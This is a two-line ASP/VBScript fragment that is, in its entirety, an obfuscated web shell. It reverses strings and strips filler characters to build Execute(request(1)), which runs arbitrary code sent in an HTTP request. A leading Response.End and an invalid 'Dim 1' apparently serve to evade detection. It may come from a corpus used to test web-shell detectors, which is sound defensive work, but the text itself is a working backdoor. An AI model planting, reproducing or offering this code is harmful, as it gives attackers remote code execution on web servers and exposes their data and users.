<% Response.End : Dim 1 %>
<% a = StrReverse("tseuqer lave") : Execute(Replace("exXecute(reXquest(1))","X","")) %>